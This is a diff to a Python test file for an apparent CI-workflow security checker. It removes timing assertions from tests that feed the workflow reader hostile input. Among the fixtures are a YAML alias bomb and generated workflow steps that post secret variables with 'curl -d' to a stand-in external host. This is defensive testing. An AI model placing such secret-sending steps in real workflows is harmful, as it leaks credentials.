@@ -8,7 +8,6 @@ from __future__ import annotations
 
 import random
 import textwrap
-import time
 
 import pytest
 from checks_helpers import action, all_findings, modify, new_file
@@ -22,7 +21,6 @@ from humangr.engine.checks.coverage import NOT_REVIEWED
 from humangr.engine.review import local_outcome
 
 WORKFLOW = ".github/workflows/ci.yml"
-MAX_SECONDS = 5.0
 
 
 def workflow(
@@ -687,12 +685,13 @@ def test_allowed_hosts_may_receive_secrets() -> None:
 # ------------------------------------------------------------------ hostile input, in bounds
 
 
-def _timed(content: str) -> tuple[float, str | None, list[str]]:
+def _read(content: str) -> tuple[str | None, list[str]]:
+    """What the reader makes of ``content``: why it stays unread, and its findings' titles.
+    (Bounded work is the reader's design; a quadratic path would hang these tests, and speed
+    itself is measured by ``humangr bench``, never by a timed test.)"""
     ctx = CheckInput(action(new_file(WORKFLOW, content)))
-    start = time.perf_counter()
     hits = [h.title for h in ci_workflows(ctx)]
-    why = unread(ctx.files[0])
-    return time.perf_counter() - start, why, hits
+    return unread(ctx.files[0]), hits
 
 
 def _steps(n: int) -> str:
@@ -702,12 +701,10 @@ def _steps(n: int) -> str:
 
 
 def test_a_huge_workflow_is_read_up_to_the_limit_and_then_not_reviewed() -> None:
-    seconds, why, _ = _timed(_steps(MAX_LINES - 10))
+    why, _ = _read(_steps(MAX_LINES - 10))
     assert why is None
-    assert seconds < MAX_SECONDS
-    seconds, why, _ = _timed(_steps(MAX_LINES + 10))
+    why, _ = _read(_steps(MAX_LINES + 10))
     assert why == f"more than {MAX_LINES} lines"
-    assert seconds < MAX_SECONDS
     got, found = decide(action(new_file(WORKFLOW, _steps(MAX_LINES + 10))))
     assert got is Outcome.NEEDS_REVIEW
     assert unreviewed(found)
@@ -715,14 +712,12 @@ def test_a_huge_workflow_is_read_up_to_the_limit_and_then_not_reviewed() -> None
 
 def test_deep_nesting_stops_the_reader() -> None:
     deep = "on: push\njobs:\n" + "".join("  " * (i + 1) + f"k{i}:\n" for i in range(200))
-    seconds, why, _ = _timed(deep)
+    why, _ = _read(deep)
     assert why is not None
     assert f"deeper than {MAX_DEPTH}" in why
-    assert seconds < MAX_SECONDS
     flow = "on: push\njobs:\n  a: " + "[" * 50_000 + "]" * 50_000 + "\n"
-    seconds, why, _ = _timed(flow)
+    why, _ = _read(flow)
     assert why is not None
-    assert seconds < MAX_SECONDS
 
 
 def test_aliases_stand_for_their_anchors_within_bounds() -> None:
@@ -737,9 +732,8 @@ def test_aliases_stand_for_their_anchors_within_bounds() -> None:
         f"  L{i}: &l{i}\n" + "\n".join([f"    - *l{i - 1}"] * 9) for i in range(1, 30)
     ]
     bomb = "on: push\nenv:\n" + "\n".join(levels) + "\n" + _steps(1).split("\n", 1)[1]
-    seconds, why, hits = _timed(bomb)
+    why, hits = _read(bomb)
     assert why == f"its aliases expand to more than {MAX_EXPANDED} entries"
-    assert seconds < MAX_SECONDS
     assert hits == []
     cycle = "on: push\nenv: &e\n  A: *e\n" + _steps(1).split("\n", 1)[1]
     assert unread(CheckInput(action(new_file(WORKFLOW, cycle))).files[0]) == (
@@ -754,9 +748,8 @@ def test_garbage_never_crashes_the_reader(seed: int) -> None:
     rng = random.Random(seed)
     raw = bytes(rng.randrange(256) for _ in range(30_000))
     for text in (raw.decode("latin-1"), raw.decode("utf-8", errors="replace")):
-        seconds, why, _ = _timed(text)
+        why, _ = _read(text)
         assert why is not None
-        assert seconds < MAX_SECONDS
         got, found = decide(action(new_file(WORKFLOW, text)))
         assert got is not Outcome.APPROVED
         assert not [f for f in found if f.title.startswith("Local check")]
@@ -775,15 +768,13 @@ def test_garbage_never_crashes_the_reader(seed: int) -> None:
 )
 def test_long_lines_are_read_in_linear_time(line: str) -> None:
     content = "on: pull_request_target\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n"
-    seconds, _, _ = _timed(content + line + "\n")
-    assert seconds < MAX_SECONDS
+    _read(content + line + "\n")
 
 
 def test_many_secret_variables_are_read_in_bounds() -> None:
     env = "".join(f"  S{i}: ${{{{ secrets.S{i} }}}}\n" for i in range(2000))
     steps = "".join(f"      - run: curl -d $S{i} https://x.example\n" for i in range(1000))
     content = f"on: push\nenv:\n{env}jobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n{steps}"
-    seconds, why, hits = _timed(content)
+    why, hits = _read(content)
     assert why is None
-    assert seconds < MAX_SECONDS
     assert len(hits) == 20  # at most 20 findings per file, the worst first
